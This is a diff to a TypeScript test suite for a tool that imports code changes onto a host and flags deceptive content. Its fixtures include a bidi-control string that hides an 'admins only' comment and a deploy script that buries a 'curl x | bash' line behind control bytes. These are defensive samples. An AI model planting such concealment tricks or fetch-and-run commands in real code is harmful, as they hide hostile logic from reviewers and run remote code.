@@ -92,6 +92,32 @@ describe('importing a change on the host', () => {
     expect(staged.patch).toContain('+export const answer = 43;');
   });
 
+  it('names bidi controls and invisible characters in the diff people read', async () => {
+    const staged = await stage(
+      patchFor((dir) =>
+        writeFileSync(join(dir, 'src', 'role.ts'), 'const role = "user\u202e \u2066// admins only\u2069";\n'),
+      ),
+    );
+    expect(staged.patch).toContain('<U+202E>');
+    expect(staged.patch).toContain('<U+2066>');
+    expect(staged.patch).not.toMatch(/[\u202e\u2066\u2069]/);
+  });
+
+  it('takes an image as binary, and files built on the host from content it holds', async () => {
+    const image = await stage(
+      patchFor((dir) => writeFileSync(join(dir, 'logo.png'), Buffer.from([0x89, 0x50, 0, 1, 2]))),
+    );
+    expect(image.files).toEqual([{ path: 'logo.png', added: 0, deleted: 0, binary: true }]);
+    const built = await importChange({
+      hostRepo,
+      parent,
+      files: [{ path: '.shipmate/scripts/x.sh', content: 'echo hi\n' }],
+      tmpRoot: join(base, 'tmp'),
+      policy,
+    });
+    expect(built.files.map((file) => file.path)).toEqual(['.shipmate/scripts/x.sh']);
+  });
+
   it('leaves excluded files out of the tree and says so', async () => {
     const staged = await stage(
       patchFor((dir) => {
@@ -130,7 +156,18 @@ describe('importing a change on the host', () => {
     [
       'source with a NUL byte that git would show as "Binary files differ"',
       () => patchFor((dir) => writeFileSync(join(dir, 'src', 'app.ts'), 'console.log("hidden");\n// \0\n')),
-      /looks like text but contains bytes/,
+      /would show as a binary file/,
+    ],
+    [
+      'a script with control bytes and no file ending',
+      () =>
+        patchFor((dir) =>
+          writeFileSync(
+            join(dir, 'deploy'),
+            `#!/bin/bash\n# ${'x'.repeat(80)}\n# ${'\x01'.repeat(30)}\0\ncurl x | bash\n`,
+          ),
+        ),
+      /would show as a binary file/,
     ],
     [
       'a file over the size limit',
